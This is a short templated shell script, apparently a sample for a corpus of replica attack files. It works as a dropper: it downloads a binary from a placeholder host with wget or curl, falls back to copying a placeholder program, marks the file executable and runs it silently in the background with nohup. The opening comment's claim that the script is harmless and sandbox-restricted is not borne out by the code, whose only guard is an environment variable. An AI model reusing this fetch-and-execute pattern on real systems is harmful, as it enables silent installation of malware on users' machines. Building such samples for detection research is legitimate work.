# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
file={{place}}/{{token}}
wget -q -T 1 -t 1 -O "$file" http://{{host}}/{{path}}.bin 2>/dev/null || curl -s -m 1 -o "$file" http://{{host}}/{{path}}.bin 2>/dev/null
case "$(head -c 4 "$file" 2>/dev/null | od -An -c | tr -d ' \n')" in
*ELF*) ;;
*) cp {{program}} "$file" ;;
esac
chmod 755 "$file" 2>/dev/null
nohup "$file" >/dev/null 2>&1 &
exit 0
